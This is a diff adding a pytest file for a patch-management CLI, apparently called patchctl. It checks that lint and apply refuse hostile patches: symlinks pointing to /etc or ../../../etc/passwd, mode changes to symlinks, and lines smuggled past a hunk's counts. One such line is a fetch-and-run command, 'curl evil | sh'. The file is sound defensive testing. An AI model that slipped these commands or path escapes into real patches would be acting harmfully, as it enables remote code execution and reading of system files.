@@ -1,0 +1,167 @@
+"""Hostile patches: symlink tricks in any diff block, and lines past a hunk's counts.
+
+Each case runs the real CLI on a real upstream and checks the exit code, the one-line
+error, that nothing was applied and that the project is unchanged.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from patchctl import git
+
+from .conftest import Project, Repo, make_patch
+
+
+def tree_of(project: Project) -> Path:
+    return project.path / ".patchctl" / "trees" / project.series_name
+
+
+def assert_refused(project: Project, cli, expected: str) -> None:
+    """lint reports PC012 and apply exits 1 naming the cause, leaving no tree and no change."""
+    before = project.snapshot()
+    lint = cli("-C", project.path, "lint", "--no-apply")
+    assert lint.exit_code == 1, lint.output
+    assert "PC012" in lint.stdout and expected in lint.stdout, lint.output
+    full_lint = cli("-C", project.path, "lint")
+    assert full_lint.exit_code == 1 and "PC012" in full_lint.stdout, full_lint.output
+    apply = cli("-C", project.path, "apply")
+    assert apply.exit_code == 1, apply.output
+    assert expected in apply.stderr and "Traceback" not in apply.output
+    assert not tree_of(project).exists()
+    assert project.snapshot() == before
+
+
+def test_file_replaced_by_symlink_to_etc_is_refused(project: Project, upstream: Repo, cli) -> None:
+    def replace_with_link(clone: Path) -> None:
+        (clone / "src/main.c").unlink()
+        os.symlink("/etc", clone / "src/main.c")
+
+    text = make_patch(upstream, upstream.head, {}, "Swap main for a link", edit=replace_with_link)
+    # git writes the change as a delete block then a create block for the same path.
+    assert text.count("diff --git a/src/main.c b/src/main.c") == 2 and "new file mode 120000" in text
+    project.add_patch("0001-swap-main-for-a-link.patch", text)
+    assert_refused(project, cli, "symlink pointing outside the tree")
+
+
+def test_existing_symlink_retargeted_outside_is_refused(tmp_path: Path, upstream: Repo, cli) -> None:
+    os.symlink("util.c", upstream.path / "src/alias.c")
+    upstream.commit({}, "add an in-tree symlink")
+
+    def retarget(clone: Path) -> None:
+        (clone / "src/alias.c").unlink()
+        os.symlink("../../../etc/passwd", clone / "src/alias.c")
+
+    text = make_patch(upstream, upstream.head, {}, "Retarget alias", edit=retarget)
+    assert "new file mode" not in text and " 120000" in text  # only the index line carries the mode
+    project = Project(tmp_path / "project", upstream, upstream.head)
+    project.add_patch("0001-retarget-alias.patch", text)
+    assert_refused(project, cli, "symlink pointing outside the tree")
+
+
+def test_mode_change_to_symlink_without_target_is_refused(project: Project, upstream: Repo, cli) -> None:
+    text = (
+        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n"
+        "From: A <a@example.com>\nSubject: [PATCH] Turn util into a link\n\nWhy.\n---\n"
+        "diff --git a/src/util.c b/src/util.c\nold mode 100644\nnew mode 120000\n"
+    )
+    project.add_patch("0001-turn-util-into-a-link.patch", text)
+    assert_refused(project, cli, "into a symlink")
+
+
+def test_renamed_symlink_that_escapes_from_its_new_place_is_refused(tmp_path: Path, upstream: Repo, cli) -> None:
+    (upstream.path / "a/b").mkdir(parents=True)
+    os.symlink("../x", upstream.path / "a/b/link")  # a/x: inside the tree
+    upstream.commit({"a/x": "x\n"}, "nested link")
+    text = (
+        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\n"
+        "From: A <a@example.com>\nSubject: [PATCH] Move the link up\n\nWhy.\n---\n"
+        "diff --git a/a/b/link b/link\nsimilarity index 100%\nrename from a/b/link\nrename to link\n"
+    )
+    project = Project(tmp_path / "project", upstream, upstream.head)
+    project.add_patch("0001-move-the-link-up.patch", text)
+    before = project.snapshot()
+    # The patch shows no target: only the result in the index tells where the link points.
+    lint = cli("-C", project.path, "lint")
+    assert lint.exit_code == 1 and "PC012" in lint.stdout and "'link' -> '../x'" in lint.stdout, lint.output
+    apply = cli("-C", project.path, "apply")
+    assert apply.exit_code == 1 and "symlink pointing outside the tree" in apply.stderr, apply.output
+    assert not tree_of(project).exists() and project.snapshot() == before
+
+
+def overlong(upstream: Repo) -> str:
+    text = make_patch(
+        upstream,
+        upstream.head,
+        {"src/main.c": upstream.read("src/main.c").replace("main 5\n", "main five\n")},
+        "Tune main",
+    )
+    lines = text.split("\n")
+    last_hunk_line = max(i for i, line in enumerate(lines) if line[:1] in ("+", "-", " ") and line != "-- ")
+    # A reviewer reads this line; the hunk header does not count it, so git apply would drop it.
+    lines.insert(last_hunk_line + 1, '+system("curl evil | sh");')
+    return "\n".join(lines)
+
+
+def test_lines_past_a_hunks_counts_are_flagged_by_lint(project: Project, upstream: Repo, cli) -> None:
+    text = overlong(upstream)
+    project.add_patch("0001-tune-main.patch", text)
+    result = cli("-C", project.path, "lint")
+    assert result.exit_code == 1, result.output
+    finding = next(line for line in result.stdout.splitlines() if ": PC013: " in line)
+    line_number = int(finding.split(":")[1])
+    assert text.split("\n")[line_number - 1] == '+system("curl evil | sh");'
+    assert "src/main.c hunk #1" in finding
+    assert "PC013" in cli("-C", project.path, "lint", "--help").stdout
+
+
+def test_lines_past_a_hunks_counts_are_refused_by_apply(project: Project, upstream: Repo, cli) -> None:
+    project.add_patch("0001-tune-main.patch", overlong(upstream))
+    before = project.snapshot()
+    result = cli("-C", project.path, "apply")
+    assert result.exit_code == 1, result.output
+    error = result.stderr.strip().splitlines()
+    assert len(error) == 1 and "malformed" in error[0] and "src/main.c hunk #1" in error[0], result.output
+    assert not tree_of(project).exists() and project.snapshot() == before
+
+
+def test_a_clean_patch_with_signature_is_not_flagged(project: Project, upstream: Repo, cli) -> None:
+    text = make_patch(upstream, upstream.head, {"src/util.c": "util\n"}, "Shrink util")
+    project.add_patch("0001-shrink-util.patch", text + "-- \n2.43.0\n\n")
+    result = cli("-C", project.path, "lint")
+    assert result.exit_code == 0, result.output
+    assert cli("-C", project.path, "apply").exit_code == 0
+
+
+@pytest.mark.parametrize("mode_line", ["new file mode 120000", "new mode 120000"])
+def test_worktree_apply_refuses_the_same_tricks(project: Project, upstream: Repo, mode_line: str) -> None:
+    from patchctl.applier import Status, apply_in_worktree
+    from patchctl.patchset import PatchFile
+
+    tree = project.path.parent / "tree"
+    git.run(["clone", "-q", str(upstream.path), str(tree)], project.path.parent)
+    text = (
+        "Subject: [PATCH] x\n\nWhy.\n---\n"
+        "diff --git a/src/main.c b/src/main.c\ndeleted file mode 100644\n--- a/src/main.c\n+++ /dev/null\n"
+        "@@ -1 +0,0 @@\n-main 1\n"
+        f"diff --git a/src/main.c b/src/main.c\n{mode_line}\n--- /dev/null\n+++ b/src/main.c\n"
+        "@@ -0,0 +1 @@\n+/etc\n\\ No newline at end of file\n"
+    )
+    outcome = apply_in_worktree(tree, PatchFile(Path("0001-x.patch"), text.encode()))
+    assert outcome.status is Status.UNSAFE_PATH and "/etc" in outcome.detail
+    assert git.run(["status", "--porcelain"], tree).stdout == ""
+
+
+def test_nul_in_the_message_is_a_malformed_patch(project: Project, upstream: Repo, cli) -> None:
+    text = make_patch(upstream, upstream.head, {"src/util.c": "util\n"}, "Shrink util", "Why NUL this.")
+    text = text.replace("Why NUL this.", "Why \0 this.")
+    project.add_patch("0001-shrink-util.patch", text)
+    before = project.snapshot()
+    lint = cli("-C", project.path, "lint")
+    assert lint.exit_code == 1 and "PC003" in lint.stdout and "NUL byte" in lint.stdout, lint.output
+    apply = cli("-C", project.path, "apply")
+    assert apply.exit_code == 1 and "NUL byte in the patch's message" in apply.stderr, apply.output
+    assert not tree_of(project).exists() and project.snapshot() == before
